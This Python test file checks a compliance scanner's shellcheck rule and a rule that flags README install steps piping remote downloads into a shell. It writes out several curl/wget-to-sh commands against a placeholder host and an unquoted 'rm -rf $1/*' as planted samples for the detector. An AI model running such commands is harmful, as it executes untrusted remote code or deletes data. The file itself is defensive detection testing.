from compliance import script_rules
from tests.planted import PlantedCase


class Shellcheck(PlantedCase):
    def test_clean(self):
        self.plant("run", '#!/usr/bin/env bash\necho "$1"\n', executable=True)
        self.assertClean(script_rules.shellcheck)

    def test_found_by_first_line(self):
        self.plant(".ci/run", "#!/usr/bin/env bash\nrm -rf $1/*\n", executable=True)
        self.assertFound(script_rules.shellcheck, ".ci/run:2", "SC2086")

    def test_found_by_name(self):
        self.plant("a.sh", "#!/bin/sh\ncd somewhere\nrm x\n", executable=True)
        self.assertFound(script_rules.shellcheck, "a.sh:2", "SC2164")


class RemoteShell(PlantedCase):
    def test_found(self):
        for code in ["curl -sSf https://x.invalid/i | sh", "wget -qO- https://x.invalid/i | sudo bash -s --",
                     "bash <(curl -s https://x.invalid/i)", 'sh -c "$(curl -fsSL https://x.invalid/i)"',
                     'eval "$(curl https://x.invalid)"', "curl x | /bin/sh"]:
            self.plant("README.md", f"Install:\n\n    {code}\n")
            self.assertFound(script_rules.no_remote_shell, "README.md:3")

    def test_clean(self):
        self.plant("a.md", "curl -s localhost:9090/api/v1/query | jq .\ncurl -o f https://x.invalid\necho hi | sh\n")
        self.assertClean(script_rules.no_remote_shell)
